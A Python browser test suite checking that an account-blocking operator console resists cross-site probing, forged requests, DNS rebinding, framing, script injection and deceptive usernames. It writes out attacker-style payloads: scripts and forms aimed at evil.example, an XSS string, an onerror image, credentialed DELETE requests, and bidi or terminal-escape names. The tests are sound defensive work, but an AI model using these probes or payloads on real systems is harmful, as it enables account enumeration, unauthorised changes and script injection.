"""Pages of others in an operator's browser: they learn nothing, change nothing and show nothing."""

from __future__ import annotations

import asyncio
import re
import threading
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import psycopg
from playwright.async_api import Browser, Page, async_playwright, expect

from gateway.web.operator_access import COOKIE
from tests.acceptance.system import OPERATORS_NAME, Client, RunningSystem, run
from tests.acceptance.test_console import block
from tests.harness.browser import FLAGS, chromium
from tests.harness.operators import OPERATOR_TOKEN

FLAGS_OF_THE_ATTACK = [
    *FLAGS,
    # Names as the attacker's DNS, or anybody in the local network, answers for them.
    "--host-resolver-rules=MAP * 127.0.0.1",
    # Newer browsers ask a person first; others must be safe without that.
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
]

PROBES = """
async ([kind, url]) => {
  const made = document.createElement({ module: "script", style: "link" }[kind] ?? kind);
  if (kind === "fetch") {
    const options = { mode: "no-cors", credentials: "include" };
    return fetch(url, options).then(() => "load", () => "error");
  }
  if (kind === "module") made.type = "module";
  if (kind === "style") made.rel = "stylesheet";
  made[{ style: "href", object: "data" }[kind] ?? "src"] = url;
  const heard = new Promise((resolve) => {
    for (const event of ["load", "error", "loadeddata", "canplay"]) {
      made.addEventListener(event, () => resolve(event));
    }
  });
  document.body.append(made);
  const said = await heard;
  const frames = `${window.length} frames`;
  made.remove();
  return `${said}, ${frames}`;
}
"""
"""Embeds an address as something, and says what the page hears of it."""

KINDS = [
    *("script", "module", "style", "img", "audio", "video", "iframe", "object", "embed", "fetch"),
]

Attack = Callable[[Client, Browser], Awaitable[None]]


def attack(system: RunningSystem, scenario: Attack) -> None:
    """Run a scenario with a browser that resolves every name to this machine."""

    async def with_a_browser(client: Client) -> None:
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(
                executable_path=chromium(), args=FLAGS_OF_THE_ATTACK
            )
            await scenario(client, browser)
            await browser.close()

    run(system, with_a_browser)


class Theirs(BaseHTTPRequestHandler):
    """The attacker's own server. (A page that Playwright makes up asks for no preflight.)"""

    def do_GET(self) -> None:
        body = b"<!doctype html><body>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Nothing."""


@asynccontextmanager
async def elsewhere(browser: Browser) -> AsyncIterator[Page]:
    """A page of the attacker's."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Theirs)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    page = await browser.new_page()
    page.set_default_timeout(90_000)
    await page.goto(f"http://evil.example:{server.server_port}/")
    yield page
    await page.close()
    await asyncio.to_thread(server.shutdown)
    server.server_close()


def named(system: RunningSystem, name: str) -> str:
    """The operator port by another name."""
    return f"http://{name}:{urlsplit(system.operator_url).port}"


def test_no_page_elsewhere_learns_who_is_blocked(system: RunningSystem):
    """Whatever it embeds an address as, it hears the same of a blocked account as of another.

    Also by a name for which the browser does not say from where a request comes.
    """

    async def scenario(client: Client, browser: Browser) -> None:
        await block(client, "probed-for")
        async with elsewhere(browser) as page:
            for port in (system.operator_url, named(system, OPERATORS_NAME)):
                for kind in KINDS:
                    heard = [
                        await page.evaluate(PROBES, [kind, f"{port}/blocked/{user}"])
                        for user in ("probed-for", "nobody-at-all")
                    ]
                    assert heard[0] == heard[1], (kind, port)
        async with elsewhere(browser) as page:
            for kind in ("iframe", "object"):
                assert (await page.evaluate(PROBES, [kind, f"{page.url}there"])).startswith("load")

    attack(system, scenario)


def test_no_page_elsewhere_reads_or_changes_anything(system: RunningSystem):
    """It gets no answer, and nothing is done; not even in the browser of an operator."""
    ask = """
    async ([url, options]) => fetch(url, options).then((answer) => answer.text(), () => null)
    """

    async def scenario(client: Client, browser: Browser) -> None:
        await block(client, "kept-blocked")
        async with elsewhere(browser) as page:
            for port in (system.operator_url, named(system, OPERATORS_NAME)):
                logged_in = {"name": COOKIE, "value": OPERATOR_TOKEN, "url": port}
                await page.context.add_cookies(
                    [{**logged_in, "httpOnly": True, "sameSite": "Strict"}]  # type: ignore[typeddict-item]
                )
            for port in (system.operator_url, named(system, OPERATORS_NAME)):
                for path, options in (
                    ("/blocked", {}),
                    ("/metrics", {}),
                    ("/blocked/kept-blocked", {"method": "DELETE"}),
                    ("/accounts/kept-blocked", {"method": "DELETE"}),
                    (
                        "/blocked/kept-blocked",
                        {
                            "method": "DELETE",
                            "credentials": "include",
                            "headers": {"X-Cerrojo-Console": "1"},
                        },
                    ),
                    (
                        "/blocked/kept-blocked",
                        {"method": "POST", "credentials": "include", "body": '{"reason": "x"}'},
                    ),
                ):
                    assert await page.evaluate(ask, [f"{port}{path}", options]) is None
        kept = (await client.operator("GET", "/blocked/kept-blocked")).body
        assert kept["why"].startswith("5 wrong passwords")
        assert (await client.operator("GET", "/accounts/kept-blocked")).status == 200

    attack(system, scenario)


def test_a_name_that_is_made_to_lead_here_gets_nothing(system: RunningSystem):
    """The browser takes its pages for the attacker's own, so they must be none of ours."""

    async def scenario(client: Client, browser: Browser) -> None:
        page = await browser.new_page()
        for name in ("rebound.example", "wpad", "127.0.0.1.evil.example"):
            workers = f"http://{name}:{urlsplit(system.workers_url).port}/metrics"
            paths = (f"{named(system, name)}{path}" for path in ("/", "/blocked"))
            for address in (*paths, workers):
                answer = await page.goto(address)
                assert answer
                assert answer.status == 421, address

    attack(system, scenario)


def test_the_console_is_in_no_frame_and_no_hand(system: RunningSystem):
    """Neither could be clicked through; and who opened its window has no hold on it."""

    async def scenario(client: Client, browser: Browser) -> None:
        async with elsewhere(browser) as page:
            for port in (system.operator_url, named(system, OPERATORS_NAME)):
                for path in ("/", "/docs", "/blocked"):
                    await page.evaluate(PROBES, ["iframe", f"{port}{path}"])
            made = "(url) => { const f = document.createElement('iframe'); f.src = url; "
            made += (
                "document.body.append(f); return new Promise((r) => { f.onload = () => r(0); }) }"
            )
            await page.evaluate(made, f"{named(system, OPERATORS_NAME)}/")
            # The driver hears of it after the page does, as of the frames that are gone.
            while len(page.frames) != 2:
                await page.wait_for_timeout(10)
            [_, frame] = page.frames
            await frame.wait_for_url(re.compile("^chrome-error:"), wait_until="commit")
        async with elsewhere(browser) as page, page.expect_popup() as opening:
            await page.evaluate(
                "(url) => { window.opened = open(url); }", f"{system.operator_url}/"
            )
            opened = await opening.value
            await expect(opened.locator("#intro")).to_be_visible()
            await page.wait_for_function("() => window.opened.closed")
            assert await opened.evaluate("() => window.opener === null")

    attack(system, scenario)


def test_no_script_runs_on_the_console_but_its_own(system: RunningSystem):
    """Were a name ever markup there, it would still be none that acts."""
    inject = """
    () => {
      const script = document.createElement("script");
      script.textContent = "window.acted = true";
      document.body.append(script);
      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.acted = true'>");
      document.body.insertAdjacentHTML("beforeend", "<form action='https://evil.example/'></form>");
      const elsewhere = document.createElement("script");
      const ended = new Promise((resolve) => {
        elsewhere.onload = () => resolve("load");
        elsewhere.onerror = () => resolve("error");
      });
      elsewhere.src = "http://evil.example/script.js";
      document.body.append(elsewhere);
      return ended;
    }
    """

    async def scenario(client: Client, browser: Browser) -> None:
        page = await browser.new_page()
        for path in ("/", "/docs"):
            await page.goto(f"{system.operator_url}{path}")
            assert await page.evaluate(inject) == "error"
            assert (
                await page.evaluate("() => fetch('http://evil.example/').then(() => 1, () => 0)")
                == 0
            )
            assert await page.evaluate("() => window.acted") is None

    attack(system, scenario)


NAMES = {
    "\u202ealp\u202c": "\\u{202e}alp\\u{202c}",
    "an\x1b[2Jna\x07": "an\\u{1b}[2Jna\\u{7}",
    "an\u2028\nna\u200b": "an\\u{2028}\\u{a}na\\u{200b}",
    "<script>alert(1)</script>": "<script>alert(1)</script>",
    "\u05d0\u05d1\u05d2-7": "\u05d0\u05d1\u05d2-7",
}
"""Names that only somebody with the log or the database can write, and how they are shown."""


def test_a_name_is_shown_as_what_it_is(system: RunningSystem):
    """No name hides another, turns the text beside it, or is markup."""
    now_ms = round(time.time() * 1000)  # so that they are on the first page: the newest come first
    with psycopg.connect(system.database_url) as connection:
        for name in NAMES:
            connection.execute(
                "INSERT INTO lock_states (username, failures_ms, in_a_row, blocks, last_ms,"
                " blocked_since_ms, blocked_until_ms, blocked_why, partition, generation,"
                " log_offset) VALUES (%s, '{}', 5, 1, 1, %s, %s, %s, 0, 1, 0)",
                (name, now_ms, 2**63 - 1, f"by {name}"),
            )

    async def scenario(client: Client, browser: Browser) -> None:
        page = await browser.new_page()
        await page.goto(system.operator_url)
        names = page.locator("#names bdi")
        await expect(names.first).to_be_visible()
        assert set(NAMES.values()) <= set(await names.all_text_contents())
        directions = await names.evaluate_all(
            "(all) => all.map((one) => getComputedStyle(one).unicodeBidi)"
        )
        assert set(directions) == {"isolate"}
        titles = await page.locator("#names a").evaluate_all("(all) => all.map((a) => a.title)")
        assert {f"\u2068{shown}\u2069" for shown in NAMES.values()} <= set(titles)
        assert await page.locator("#names script, #names img").count() == 0
        await page.locator("#names a", has_text="alp").click()
        await expect(page.locator("#user")).to_have_text("\\u{202e}alp\\u{202c}")
        await expect(page).to_have_title("\u2068\\u{202e}alp\\u{202c}\u2069 · Cerrojo")

    try:
        attack(system, scenario)
    finally:
        with psycopg.connect(system.database_url) as connection:
            connection.execute("DELETE FROM lock_states WHERE username = ANY(%s)", (list(NAMES),))
